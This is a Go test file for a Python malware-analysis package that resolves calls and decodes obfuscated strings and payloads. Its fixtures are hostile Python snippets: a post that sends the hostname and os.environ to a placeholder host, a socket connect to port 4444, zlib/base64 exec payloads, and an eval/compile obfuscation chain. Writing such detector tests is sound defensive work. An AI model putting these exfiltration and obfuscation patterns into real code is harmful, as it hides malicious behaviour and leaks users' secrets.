package python

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func load(t *testing.T, src string) *Module {
	t.Helper()
	m, err := Load([]byte(src))
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func callNames(m *Module) []string {
	var out []string
	for _, c := range m.Calls {
		out = append(out, c.Name)
	}
	return out
}

func TestResolve(t *testing.T) {
	tests := []struct {
		src  string
		want []string
	}{
		{"import subprocess as sp\nsp.Popen(['id'])", []string{"subprocess.Popen"}},
		{"from os import system as s\ns('id')", []string{"os.system"}},
		{"__import__('os').system('id')", []string{"os.system", "builtins.__import__"}},
		{"import importlib\nimportlib.import_module('subprocess').call('x')", []string{"subprocess.call", "importlib.import_module"}},
		{"import os\ngetattr(os, 'sys' + 'tem')('id')", []string{"os.system", "builtins.getattr"}},
		{"globals()['__builtins__'].exec('x')", []string{"builtins.exec", "builtins.globals"}},
		{"import builtins\nbuiltins.exec('x')", []string{"builtins.exec"}},
		{"__builtins__.__dict__['eval']('1')", []string{"builtins.eval"}},
		{"import socket\ns = socket.socket()\ns.connect(('1.2.3.4', 4444))", []string{"socket.socket", "socket.socket().connect"}},
		{"import requests as r\nr.Session().post('u')", []string{"requests.Session().post", "requests.Session"}},
		{"e = eval\ne('1')", []string{"builtins.eval"}},
		{"import urllib.request\nurllib.request.urlopen('http://x')", []string{"urllib.request.urlopen"}},
		{"with open('f') as fh:\n    fh.write('x')", []string{"builtins.open", "builtins.open().write"}},
	}
	for _, tt := range tests {
		if diff := cmp.Diff(tt.want, callNames(load(t, tt.src))); diff != "" {
			t.Errorf("%q (-want +got):\n%s", tt.src, diff)
		}
	}
}

func TestEvalStrings(t *testing.T) {
	tests := []struct {
		src  string
		want string
	}{
		{`x = "a" "b" + 'c'`, "abc"},
		{`x = "".join(["o", "s"])`, "os"},
		{`x = "-".join("abc")`, "a-b-c"},
		{`x = "%s.%s" % ("a", "b")`, "a.b"},
		{`x = "{}/{}".format("a", 1)`, "a/1"},
		{`x = f"{'a'}b"`, "ab"},
		{`x = "".join(chr(c) for c in [105, 100])`, "id"},
		{`x = "".join(map(chr, [105, 100]))`, "id"},
		{`x = bytes([105, 100]).decode()`, "id"},
		{`x = "dlrow"[::-1]`, "world"},
		{`x = "abcdef"[1:3]`, "bc"},
		{`x = "\x69\x64\n"`, "id\n"},
		{`x = r"\x69"`, `\x69`},
		{`import base64` + "\n" + `x = base64.b64decode("aW1wb3J0IG9z").decode()`, "import os"},
		{`import codecs` + "\n" + `x = codecs.decode("vzcbeg bf", "rot13")`, "import os"},
		{`x = bytes.fromhex("696d706f7274")`, "import"},
		{`a = "im"` + "\n" + `b = a + "port"` + "\n" + `x = b`, "import"},
		{`x = "ab" * 2`, "abab"},
		{"import os\nx = os.path.join('a', 'b.py')", "a/b.py"},
		{"parts = [\"i\", \"d\"]\nx = \"\".join(parts)", "id"},
		{"import base64\ndef d(s):\n    b = s.encode('ascii')\n    c = base64.b64decode(b)\n    return c.decode('ascii')\nx = d('aWQ=')", "id"},
		{"def k(s):\n    \"doc\"\n    r = s[::-1]\n    return r\nx = k('di') + k('ro')", "idor"},
	}
	for _, tt := range tests {
		m := load(t, tt.src)
		v, ok := m.consts["x"]
		if !ok || v.S != tt.want {
			t.Errorf("%q: x = %q (known %v), want %q", tt.src, v.S, ok, tt.want)
		}
	}
}

func TestEvalZlibBase64Payload(t *testing.T) {
	// exec(zlib.decompress(base64.b64decode(...))) of "import os\nos.system('id')"
	m := load(t, "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC/myi/WK64sLknN1VDPTFHXBAB6bgjJ')))\n")
	if len(m.Payloads) == 0 {
		t.Fatal("no payload recorded")
	}
	var found bool
	for _, p := range m.Payloads {
		if strings.Contains(p.Value.S, "os.system('id')") && cmp.Equal(p.Value.Decoders, []string{"base64.b64decode", "zlib.decompress"}) {
			found = true
		}
	}
	if !found {
		t.Errorf("payloads = %+v", m.Payloads)
	}
}

func TestFlows(t *testing.T) {
	m := load(t, "import socket, requests, os\nh = socket.gethostname()\ndata = {'h': h, 'env': dict(os.environ)}\nrequests.post('http://x', data=data)\n")
	var post *Call
	for i := range m.Calls {
		if m.Calls[i].Name == "requests.post" {
			post = &m.Calls[i]
		}
	}
	if post == nil {
		t.Fatal("no requests.post call")
	}
	v := m.Eval(post.Kwargs["data"])
	for _, want := range []string{"socket.gethostname()", "os.environ"} {
		if !v.DerivesFrom(func(s string) bool { return s == want }) {
			t.Errorf("data does not derive from %s: %v", want, v.From)
		}
	}
}

func TestPython2Exec(t *testing.T) {
	m := load(t, "import base64\nexec base64.b64decode('aW1wb3J0IG9z') in globals()\nprint 'done'\n")
	var execs int
	for _, c := range m.Calls {
		if c.Name == "builtins.exec" {
			execs++
		}
	}
	if execs == 0 {
		t.Errorf("python 2 exec statement not seen as an exec call: %v", callNames(m))
	}
	if len(m.Payloads) == 0 {
		t.Errorf("payload not decoded")
	}
}

func TestQuickImports(t *testing.T) {
	src := "import os, sys as system\nfrom . import helper\nfrom ..pkg.mod import (a, b as c\nif x:\n    import subprocess\nfrom x import *  # all\n"
	got := QuickImports([]byte(src))
	var lines []string
	for _, i := range got {
		lines = append(lines, strings.Join([]string{i.Module, i.Name, i.Alias, strings.Repeat(".", i.Level)}, "|")+map[bool]string{true: " top", false: " nested"}[i.Func < 0])
	}
	want := []string{"os||os| top", "sys||system| top", "|helper|helper|. top", "pkg.mod|a|a|.. top", "pkg.mod|b|c|.. top", "subprocess||subprocess| nested", "x|*|*| top"}
	if diff := cmp.Diff(want, lines); diff != "" {
		t.Errorf("QuickImports (-want +got):\n%s", diff)
	}
}

func TestParseCacheSharesTrees(t *testing.T) {
	src := []byte("import os\n" + strings.Repeat("x = 1\n", 1000) + "os.system('id')\n")
	a, err := Load(src)
	if err != nil {
		t.Fatal(err)
	}
	b, err := Load(append([]byte(nil), src...))
	if err != nil {
		t.Fatal(err)
	}
	if a.Tree != b.Tree {
		t.Error("identical sources were parsed twice")
	}
	if len(a.Calls) != 1 || len(b.Calls) != 1 || a.Calls[0].Name != "os.system" {
		t.Errorf("modules from a shared tree differ: %v %v", callNames(a), callNames(b))
	}
}

func TestBlankOBFStyleResolution(t *testing.T) {
	m := load(t, `_a=eval("\x65\166\x61\154");_b=_a("\x63\x6f\x6d\x70\x69\154\145");_c,_d=_a(_b("\x5f\x5f\x69\x6d\x70\x6f\x72\x74\x5f\x5f\x28\x27\x62\x61\x73\x65\x36\x34\x27\x29","",_a.__name__)),1
_a(_b(_c.b64decode("aW1wb3J0IG9z"),"","exec"))
`)
	var names []string
	for _, c := range m.Calls {
		names = append(names, c.Name)
	}
	joined := strings.Join(names, " ")
	for _, want := range []string{"base64.b64decode", "builtins.compile", "builtins.eval"} {
		if !strings.Contains(joined, want) {
			t.Errorf("%s not resolved: %v", want, names)
		}
	}
}

// TestMaskedStringsEvaluate checks that literals are decoded from the
// source, not from the escape-masked text the tree was parsed from.
func TestMaskedStringsEvaluate(t *testing.T) {
	tests := []struct{ src, want string }{
		{`x = "\x65\166\141l\n"`, "eval\n"},
		{`x = f"\u0041{'a'}\t"`, "Aa\t"},
		{`x = r"\x41\"" + '\''`, `\x41\"'`},
		{`x = b"\x69\x64"`, "id"},
		{"x = '\\x61\\\nb'", "ab"},
	}
	for _, tt := range tests {
		m := load(t, tt.src)
		if v := m.consts["x"]; !v.Known || v.S != tt.want {
			t.Errorf("%s: x = %q (known %v), want %q", tt.src, v.S, v.Known, tt.want)
		}
	}
}

func TestFunctionFromCode(t *testing.T) {
	tests := []struct {
		src  string
		exec bool
	}{
		{"import types\ntypes.FunctionType(compile(src, '<s>', 'exec'), {})()", true},
		{"import types, marshal\nf = types.FunctionType(marshal.loads(blob), globals())\nf()", true},
		{"def f():\n    pass\nf()", false},
		{"import marshal\ntype(lambda: 0)(marshal.loads(blob), globals())()", true},
		{"import types\nc = compile(src, '<s>', 'exec')\ntypes.FunctionType(c, {})()", true},
		// A function copied with new globals runs its own code.
		{"import types\ng = types.FunctionType(f.__code__, {})\ng()", false},
	}
	for _, tt := range tests {
		m := load(t, tt.src)
		got := false
		for _, c := range m.Calls {
			got = got || c.Name == "builtins.exec"
		}
		if got != tt.exec {
			t.Errorf("%q: exec %v, want %v; calls %v", tt.src, got, tt.exec, callNames(m))
		}
	}
}
